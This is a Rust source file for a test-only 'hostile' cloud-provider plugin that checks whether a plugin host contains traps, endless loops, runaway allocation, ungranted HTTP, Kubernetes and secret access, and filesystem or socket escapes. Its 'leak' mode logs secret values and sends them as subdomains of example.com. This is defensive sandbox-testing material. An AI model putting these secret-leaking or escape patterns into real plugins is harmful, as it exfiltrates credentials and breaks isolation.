//! # hostile — a cloud-provider plugin that misbehaves on demand
//!
//! **Test-only; never shipped.** The host runtime's fault tests load it to show that a
//! plugin cannot hurt the host: traps, endless loops, unbounded allocation, nonsense
//! results, and every import used both within and beyond its grants.
//!
//! The behaviour comes from a JSON object `{"mode": …, …}`: the operator's configuration,
//! with the fields of the NodeClass `spec` laid over it when the function receives a
//! NodeClass (so a test can pick the mode per call). Every exported function performs it
//! (most usefully `get-instance-types`):
//!
//! | mode | behaviour | result |
//! |---|---|---|
//! | `ok` (default) | nothing | one valid instance type `ok-1` |
//! | `trap` | panics | trap; the panic message goes to stderr |
//! | `loop` | spins forever | the host's deadline must interrupt it |
//! | `alloc` | allocates 1 MiB blocks without bound | the host's memory limit must stop it |
//! | `garbage` | nothing | instance type `garbage-1` with nonsense quantities and NaN/negative/infinite prices |
//! | `http` | `GET url` (or `method` with `body`) through `wasi:http` | ok for 2xx; else `internal("http status N")` or `internal("HTTP request failed: <error-code>")` |
//! | `kube` | Kubernetes `get` (or `list` with `verb: list`) on `configmaps` `kube-system/x` in `workload` | ok; else `internal("<kind>: <host message>")`, e.g. `internal("denied: …")` |
//! | `secret` | `get-secret(secret)` (default `test-secret`) | ok; else `internal("<kind>: <host message>")` |
//! | `cache` | sets a key, reads it back | ok only if the value round-trips |
//! | `log` | logs `message` (default `hostile plugin log line`) `count` times (default 1) | ok |
//! | `leak` | reads `secret`, logs every value, then fails with them in the message (`internal`), or panics with them (`leakBy: trap`) | the host must scrub the values |
//! | `fs` | lists `/` and `.`, reads `path` (default `/etc/hostname`), writes `escape.txt`, through `wasi:filesystem` | `fs-denied` when all fail; else `internal("reached: …")` |
//! | `socket` | TCP connect to `url` (an `address:port`), TCP listen, UDP bind and a name lookup, through `wasi:sockets` | `socket-denied` when all fail; else `internal("reached: …")` |
//!
//! Optional fields: `url`, `method`, `body` (http), `secret` (secret), `cluster`, `group`, `version`,
//! `resource`, `namespace`, `name`, `verb` (kube), `message`, `count` (log), `zone`
//! (the zone of `ok-1`'s offering, default `zone-a`).
//!
//! WIT 0.2's additions answer fixed values after the mode has run: `repair-policies` one
//! policy (`Ready` `False` for 42 s), `reboot` success for a `hostile://` provider ID and
//! `not-found` for any other.
//!
//! On success `ok-1` carries the requirement `hostile.joinery.dev/result` with a short,
//! label-safe summary of what the mode observed (e.g. `http-200`, `secret-2-keys`).

use joinery_plugin_sdk::cloud::{
    CloudError, CloudProvider, CreateRequest, Instance, InstanceState, InstanceType, NodeClaim,
    NodeClass, NodeClassResolution, Offering, Overhead, RepairPolicy, Requirement, Resource,
};
use joinery_plugin_sdk::{cache, http, kube, log, secrets};
use serde::Deserialize;

/// Every mode, for error messages.
pub const MODES: &[&str] = &[
    "ok", "trap", "loop", "alloc", "garbage", "http", "kube", "secret", "cache", "log", "leak",
    "fs", "socket",
];

/// The requirement key carrying what a mode observed.
pub const RESULT_KEY: &str = "hostile.joinery.dev/result";

/// The plugin's configuration.
#[derive(Clone, Debug, Default, Deserialize)]
#[serde(default, rename_all = "camelCase")]
pub struct Config {
    /// What to do; `ok` when empty.
    pub mode: String,
    /// `http`: the URL to request.
    pub url: Option<String>,
    /// `http`: the method (default `GET`).
    pub method: Option<String>,
    /// `http`: a request body (default none).
    pub body: Option<String>,
    /// `secret`: the secret to read (default `test-secret`).
    pub secret: Option<String>,
    /// `kube`: cluster (default `workload`).
    pub cluster: Option<String>,
    /// `kube`: API group (default core).
    pub group: Option<String>,
    /// `kube`: API version (default `v1`).
    pub version: Option<String>,
    /// `kube`: plural resource (default `configmaps`).
    pub resource: Option<String>,
    /// `kube`: namespace (default `kube-system`).
    pub namespace: Option<String>,
    /// `kube`: object name (default `x`).
    pub name: Option<String>,
    /// `kube`: `get` (default) or `list`.
    pub verb: Option<String>,
    /// `log`: the line to log.
    pub message: Option<String>,
    /// `log`: how many times; `http`: how many times the request is sent.
    pub count: Option<u32>,
    /// The zone of `ok-1`'s offering.
    pub zone: Option<String>,
    /// `leak`: `error` (default), `trap`, or `requests` (each value as an ungranted host name
    /// and as an invalid object name, for what the host logs of them).
    pub leak_by: Option<String>,
    /// `fs`: the file to read (default `/etc/hostname`).
    pub path: Option<String>,
}

/// `Ok(observation)` when nothing was reached, else the list of what was.
fn none_reached(reached: Vec<&str>, observation: &str) -> Result<Outcome, CloudError> {
    if reached.is_empty() {
        Ok(Outcome::Ok(observation.into()))
    } else {
        Err(CloudError::internal(format!(
            "reached: {}",
            reached.join(", ")
        )))
    }
}

/// What a mode produced when it did not fail.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Outcome {
    /// Return valid data; the string is the observation for [`RESULT_KEY`].
    Ok(String),
    /// Return nonsense.
    Garbage,
}

/// The operator's configuration, with the NodeClass `spec` fields (if any) laid over it.
pub fn effective_config(node_class: Option<&NodeClass>) -> Result<Config, CloudError> {
    let invalid = |what: &str, e: serde_json::Error| {
        CloudError::invalid(format!("hostile plugin: invalid {what}: {e}"))
    };
    let mut merged: serde_json::Map<String, serde_json::Value> =
        serde_json::from_str(&joinery_plugin_sdk::config_json())
            .map_err(|e| invalid("configuration", e))?;
    if let Some(class) = node_class.filter(|c| !c.spec.trim().is_empty()) {
        let spec: serde_json::Map<String, serde_json::Value> =
            serde_json::from_str(&class.spec).map_err(|e| invalid("NodeClass spec", e))?;
        merged.extend(spec);
    }
    serde_json::from_value(serde_json::Value::Object(merged))
        .map_err(|e| invalid("mode settings", e))
}

fn config() -> Result<Config, CloudError> {
    effective_config(None)
}

/// Performs the configured mode.
pub fn run_mode(cfg: &Config) -> Result<Outcome, CloudError> {
    let mode = if cfg.mode.is_empty() {
        "ok"
    } else {
        cfg.mode.as_str()
    };
    match mode {
        "ok" => Ok(Outcome::Ok("ok".into())),
        "trap" => panic!("hostile plugin: trap mode requested"),
        "loop" => {
            let mut i: u64 = 0;
            loop {
                i = std::hint::black_box(i.wrapping_add(1));
            }
        }
        "alloc" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                let mut block = vec![0u8; 1 << 20];
                block[0] = 1;
                hoard.push(std::hint::black_box(block));
            }
        }
        "garbage" => Ok(Outcome::Garbage),
        "http" => {
            let url = cfg
                .url
                .as_deref()
                .ok_or_else(|| CloudError::invalid("mode http needs `url` in the configuration"))?;
            let mut request =
                http::Request::new(cfg.method.as_deref().unwrap_or("GET"), url).timeout_ms(5_000);
            if let Some(body) = &cfg.body {
                request = request.body(body.as_bytes());
            }
            // `count` sends it that many times (say, to flood the host with denials).
            for _ in 1..cfg.count.unwrap_or(1) {
                let _ = request.send();
            }
            match request.send() {
                Ok(r) if r.is_success() => Ok(Outcome::Ok(format!("http-{}", r.status))),
                Ok(r) => Err(CloudError::internal(format!("http status {}", r.status))),
                Err(e) => Err(CloudError::internal(e.to_string())),
            }
        }
        "kube" => {
            let mut target = kube::ResourceRef::new(
                cfg.group.clone().unwrap_or_default(),
                cfg.version.clone().unwrap_or_else(|| "v1".into()),
                cfg.resource.clone().unwrap_or_else(|| "configmaps".into()),
            )
            .namespace(
                cfg.namespace
                    .clone()
                    .unwrap_or_else(|| "kube-system".into()),
            );
            if let Some(c) = &cfg.cluster {
                target = target.in_cluster(c.clone());
            }
            let result = match cfg.verb.as_deref().unwrap_or("get") {
                "get" => kube::get(&target, cfg.name.as_deref().unwrap_or("x")),
                "list" => kube::list(&target, None),
                other => {
                    return Err(CloudError::invalid(format!(
                        "mode kube: unsupported verb `{other}`"
                    )));
                }
            };
            result
                .map(|_| Outcome::Ok("kube-ok".into()))
                .map_err(|e| CloudError::internal(e.describe()))
        }
        "secret" => {
            let name = cfg.secret.as_deref().unwrap_or("test-secret");
            secrets::get(name)
                .map(|s| Outcome::Ok(format!("secret-{}-keys", s.entries.len())))
                .map_err(|e| CloudError::internal(e.describe()))
        }
        "cache" => {
            let key = "hostile-round-trip";
            let value = b"round-trip \x00\xff".as_slice();
            cache::set(key, value, 60);
            match cache::get(key) {
                Some(v) if v == value => Ok(Outcome::Ok("cache-ok".into())),
                Some(v) => Err(CloudError::internal(format!(
                    "cache: value did not round-trip, got {v:?}"
                ))),
                None => Err(CloudError::internal(
                    "cache: value did not round-trip, got nothing",
                )),
            }
        }
        "log" => {
            let message = cfg.message.as_deref().unwrap_or("hostile plugin log line");
            for _ in 0..cfg.count.unwrap_or(1) {
                log::info(message);
            }
            Ok(Outcome::Ok("log-ok".into()))
        }
        "leak" => {
            let name = cfg.secret.as_deref().unwrap_or("test-secret");
            let secret = secrets::get(name).map_err(|e| CloudError::internal(e.describe()))?;
            let values: Vec<String> = secret
                .entries
                .iter()
                .map(|e| String::from_utf8_lossy(&e.value).into_owned())
                .collect();
            if cfg.leak_by.as_deref() == Some("requests") {
                // Through what the host itself logs: each value as a host name the plugin has
                // no grant for, and as an object name the host refuses.
                for value in &values {
                    let _ = http::Request::new("GET", &format!("http://{value}.example.com/"))
                        .timeout_ms(1_000)
                        .send();
                    let target = kube::ResourceRef::new("", "v1", "configmaps")
                        .namespace("kube-system".to_string());
                    let _ = kube::get(&target, value);
                }
                return Ok(Outcome::Ok("leak-requests-sent".into()));
            }
            for value in &values {
                log::info(format!("the secret is {value}"));
            }
            let message = format!("leaking secret values: {}", values.join(" "));
            if cfg.leak_by.as_deref() == Some("trap") {
                panic!("{message}");
            }
            Err(CloudError::internal(message))
        }
        "fs" => {
            let mut reached = Vec::new();
            for dir in ["/", "."] {
                if std::fs::read_dir(dir).is_ok() {
                    reached.push("a directory listing");
                }
            }
            if std::fs::read(cfg.path.as_deref().unwrap_or("/etc/hostname")).is_ok() {
                reached.push("a file read");
            }
            if std::fs::write("escape.txt", b"out").is_ok() {
                reached.push("a file write");
            }
            none_reached(reached, "fs-denied")
        }
        "socket" => {
            use std::net::ToSocketAddrs;
            let mut reached = Vec::new();
            let target = cfg.url.as_deref().unwrap_or("127.0.0.1:80");
            if std::net::TcpStream::connect(target).is_ok() {
                reached.push("a TCP connection");
            }
            if std::net::TcpListener::bind("0.0.0.0:0").is_ok() {
                reached.push("a TCP listener");
            }
            if std::net::UdpSocket::bind("0.0.0.0:0").is_ok() {
                reached.push("a UDP socket");
            }
            if ("localhost", 80).to_socket_addrs().is_ok() {
                reached.push("a name lookup");
            }
            none_reached(reached, "socket-denied")
        }
        other => Err(CloudError::invalid(format!(
            "unknown hostile mode `{other}`; modes: {}",
            MODES.join(", ")
        ))),
    }
}

/// The valid instance type `ok-1`.
pub fn ok_type(zone: &str, observed: &str) -> InstanceType {
    InstanceType {
        name: "ok-1".into(),
        requirements: vec![
            Requirement::is_in("kubernetes.io/arch", &["amd64"]),
            Requirement::is_in("kubernetes.io/os", &["linux"]),
            Requirement::is_in(RESULT_KEY, &[observed]),
        ],
        capacity: vec![
            Resource::new("cpu", "2"),
            Resource::new("memory", "4Gi"),
            Resource::new("pods", "110"),
            Resource::new("ephemeral-storage", "20Gi"),
        ],
        overhead: Overhead {
            kube_reserved: vec![
                Resource::new("cpu", "100m"),
                Resource::new("memory", "256Mi"),
            ],
            system_reserved: Vec::new(),
            eviction_threshold: vec![Resource::new("memory", "100Mi")],
        },
        offerings: vec![Offering {
            zone: zone.into(),
            capacity_type: "on-demand".into(),
            price: Some(0.1),
            available: true,
        }],
    }
}

/// An instance type full of nonsense.
pub fn garbage_type() -> InstanceType {
    InstanceType {
        name: "garbage-1".into(),
        requirements: vec![
            Requirement::new("", joinery_plugin_sdk::cloud::Operator::Gt, &[]),
            Requirement::new(
                "kubernetes.io/arch",
                joinery_plugin_sdk::cloud::Operator::In,
                &["", "???"],
            ),
        ],
        capacity: vec![
            Resource::new("cpu", "lots"),
            Resource::new("memory", "-4Gi"),
            Resource::new("pods", "NaN"),
            Resource::new("ephemeral-storage", ""),
            Resource::new("", "1"),
        ],
        overhead: Overhead {
            kube_reserved: vec![Resource::new("cpu", "a little")],
            system_reserved: vec![Resource::new("memory", "1e400")],
            eviction_threshold: vec![Resource::new("memory", "-1")],
        },
        offerings: vec![
            Offering {
                zone: "zone-a".into(),
                capacity_type: "on-demand".into(),
                price: Some(f64::NAN),
                available: true,
            },
            Offering {
                zone: "zone-a".into(),
                capacity_type: "spot".into(),
                price: Some(-1.0),
                available: true,
            },
            Offering {
                zone: "".into(),
                capacity_type: "whenever".into(),
                price: Some(f64::INFINITY),
                available: true,
            },
        ],
    }
}

/// The hostile cloud provider.
pub struct Hostile;

impl Hostile {
    fn instance(claim: &NodeClaim, cfg: &Config, outcome: &Outcome) -> Instance {
        let t = match outcome {
            Outcome::Ok(observed) => ok_type(cfg.zone.as_deref().unwrap_or("zone-a"), observed),
            Outcome::Garbage => garbage_type(),
        };
        Instance {
            provider_id: format!("hostile://{}", claim.name),
            instance_type: t.name.clone(),
            zone: t.offerings[0].zone.clone(),
            capacity_type: t.offerings[0].capacity_type.clone(),
            image_id: None,
            labels: Vec::new(),
            capacity: t.capacity,
            allocatable: Vec::new(),
            state: InstanceState::Running,
            node_claim: Some(claim.name.clone()),
            created_at: None,
        }
    }
}

impl CloudProvider for Hostile {
    fn resolve_node_class(node_class: NodeClass) -> Result<NodeClassResolution, CloudError> {
        run_mode(&effective_config(Some(&node_class))?)?;
        Ok(NodeClassResolution {
            conditions: Vec::new(),
            status: "{}".into(),
        })
    }

    fn get_instance_types(node_class: NodeClass) -> Result<Vec<InstanceType>, CloudError> {
        let cfg = effective_config(Some(&node_class))?;
        Ok(match run_mode(&cfg)? {
            Outcome::Ok(observed) => {
                vec![ok_type(cfg.zone.as_deref().unwrap_or("zone-a"), &observed)]
            }
            Outcome::Garbage => vec![garbage_type(), garbage_type()],
        })
    }

    fn create(request: CreateRequest) -> Result<Instance, CloudError> {
        let cfg = effective_config(Some(&request.node_class))?;
        let outcome = run_mode(&cfg)?;
        Ok(Self::instance(&request.claim, &cfg, &outcome))
    }

    fn get(provider_id: String) -> Result<Instance, CloudError> {
        run_mode(&config()?)?;
        Err(CloudError::NotFound(provider_id))
    }

    fn list() -> Result<Vec<Instance>, CloudError> {
        run_mode(&config()?)?;
        Ok(Vec::new())
    }

    fn delete(provider_id: String) -> Result<(), CloudError> {
        run_mode(&config()?)?;
        Err(CloudError::NotFound(provider_id))
    }

    fn is_drifted(_claim: NodeClaim, node_class: NodeClass) -> Result<Option<String>, CloudError> {
        run_mode(&effective_config(Some(&node_class))?)?;
        Ok(None)
    }

    fn repair_policies() -> Result<Option<Vec<RepairPolicy>>, CloudError> {
        run_mode(&effective_config(None)?)?;
        Ok(Some(vec![RepairPolicy {
            condition_type: "Ready".into(),
            condition_status: "False".into(),
            toleration_seconds: 42,
        }]))
    }

    fn reboot(provider_id: String) -> Result<(), CloudError> {
        run_mode(&effective_config(None)?)?;
        match provider_id.strip_prefix("hostile://") {
            Some(_) => Ok(()),
            None => Err(CloudError::NotFound(provider_id)),
        }
    }
}

joinery_plugin_sdk::export_cloud_provider!(Hostile);

#[cfg(test)]
mod tests {
    use super::*;
    use joinery_plugin_sdk::kube::{KubeCall, KubeError};
    use joinery_plugin_sdk::secrets::SecretError;
    use joinery_plugin_sdk::testing::{self, FakeHost};

    fn types(config: &str) -> Result<Vec<InstanceType>, CloudError> {
        let _host = testing::install(FakeHost::new().with_config(config));
        Hostile::get_instance_types(NodeClass::new("default", "{}"))
    }

    #[test]
    fn ok_mode_returns_one_valid_type() {
        let t = types("{}").unwrap();
        assert_eq!(t.len(), 1);
        assert_eq!(t[0].name, "ok-1");
        assert_eq!(t[0].offerings[0].price, Some(0.1));
        assert_eq!(
            types(r#"{"mode": "ok", "zone": "z9"}"#).unwrap()[0].offerings[0].zone,
            "z9"
        );
    }

    #[test]
    fn garbage_mode_returns_nonsense() {
        let t = types(r#"{"mode": "garbage"}"#).unwrap();
        assert!(
            t.iter()
                .all(|t| t.capacity.iter().any(|r| r.quantity == "lots"))
        );
        assert!(
            t[0].offerings
                .iter()
                .any(|o| o.price.is_some_and(f64::is_nan))
        );
        assert!(
            t[0].offerings
                .iter()
                .any(|o| o.price.is_some_and(|p| p < 0.0))
        );
    }

    #[test]
    #[should_panic(expected = "trap mode")]
    fn trap_mode_panics() {
        let _ = types(r#"{"mode": "trap"}"#);
    }

    #[test]
    fn unknown_mode_and_bad_config_are_invalid() {
        assert!(
            matches!(types(r#"{"mode": "explode"}"#), Err(CloudError::Invalid(m)) if m.contains("explode"))
        );
        assert!(matches!(
            types(r#"{"mode": 3}"#),
            Err(CloudError::Invalid(_))
        ));
    }

    #[test]
    fn http_mode_carries_the_error_code() {
        let _host = testing::install(
            FakeHost::new()
                .with_config(r#"{"mode": "http", "url": "http://127.0.0.1:9/x"}"#)
                .with_http(|_| Err(http::Error::Transport("HttpRequestDenied".into()))),
        );
        let err = Hostile::get_instance_types(NodeClass::new("d", "{}")).unwrap_err();
        assert_eq!(
            err,
            CloudError::Internal("HTTP request failed: HttpRequestDenied".into())
        );

        let _host = testing::install(
            FakeHost::new()
                .with_config(r#"{"mode": "http", "url": "http://127.0.0.1:9/x"}"#)
                .with_http(|r| {
                    assert_eq!(r.method, "GET");
                    Ok(http::Response::new(204, ""))
                }),
        );
        let t = Hostile::get_instance_types(NodeClass::new("d", "{}")).unwrap();
        assert!(
            t[0].requirements
                .iter()
                .any(|r| r.key == RESULT_KEY && r.values == ["http-204"])
        );
    }

    #[test]
    fn kube_mode_maps_errors_verbatim() {
        let _host = testing::install(
            FakeHost::new()
                .with_config(r#"{"mode": "kube"}"#)
                .with_kube(|call| {
                    let KubeCall::Get { target, name } = call else {
                        panic!("{call:?}")
                    };
                    assert_eq!(
                        (
                            target.cluster.as_str(),
                            target.resource.as_str(),
                            name.as_str()
                        ),
                        ("workload", "configmaps", "x")
                    );
                    assert_eq!(target.namespace.as_deref(), Some("kube-system"));
                    Err(KubeError::Denied(
                        "get configmaps in workload is not granted".into(),
                    ))
                }),
        );
        let err = Hostile::get_instance_types(NodeClass::new("d", "{}")).unwrap_err();
        assert_eq!(
            err,
            CloudError::Internal("denied: get configmaps in workload is not granted".into())
        );
    }

    #[test]
    fn secret_mode() {
        let _host = testing::install(
            FakeHost::new()
                .with_config(r#"{"mode": "secret"}"#)
                .with_secret("test-secret", &[("a", "1"), ("b", "2")]),
        );
        let t = Hostile::get_instance_types(NodeClass::new("d", "{}")).unwrap();
        assert!(
            t[0].requirements
                .iter()
                .any(|r| r.values == ["secret-2-keys"])
        );

        let _host = testing::install(
            FakeHost::new().with_config(r#"{"mode": "secret", "secret": "other"}"#),
        );
        let err = Hostile::get_instance_types(NodeClass::new("d", "{}")).unwrap_err();
        assert!(
            matches!(&err, CloudError::Internal(m) if m.starts_with("denied: ") && m.contains("other")),
            "{err:?}"
        );

        let _host = testing::install(
            FakeHost::new()
                .with_config(r#"{"mode": "secret"}"#)
                .with_secret_error(
                    "test-secret",
                    SecretError::NotFound("no such secret".into()),
                ),
        );
        let err = Hostile::get_instance_types(NodeClass::new("d", "{}")).unwrap_err();
        assert_eq!(
            err,
            CloudError::Internal("not-found: no such secret".into())
        );
    }

    #[test]
    fn node_class_spec_overrides_the_configuration() {
        let _host = testing::install(
            FakeHost::new().with_config(r#"{"mode": "log", "message": "from config"}"#),
        );
        Hostile::get_instance_types(NodeClass::new("d", "{}")).unwrap();
        Hostile::get_instance_types(NodeClass::new("d", r#"{"mode": "log", "count": 2}"#)).unwrap();
        let from_config = testing::logs()
            .iter()
            .filter(|(_, m)| m == "from config")
            .count();
        assert_eq!(
            from_config, 3,
            "spec fields override, the others come from the configuration"
        );
        let t = Hostile::get_instance_types(NodeClass::new("d", r#"{"mode": "garbage"}"#)).unwrap();
        assert_eq!(t[0].name, "garbage-1");
        assert!(matches!(
            Hostile::get_instance_types(NodeClass::new("d", "[1]")),
            Err(CloudError::Invalid(_))
        ));
    }

    #[test]
    fn cache_and_log_modes() {
        assert!(types(r#"{"mode": "cache"}"#).is_ok());
        let _host = testing::install(
            FakeHost::new().with_config(r#"{"mode": "log", "count": 3, "message": "hi"}"#),
        );
        Hostile::get_instance_types(NodeClass::new("d", "{}")).unwrap();
        assert_eq!(testing::logs().iter().filter(|(_, m)| m == "hi").count(), 3);
    }
}
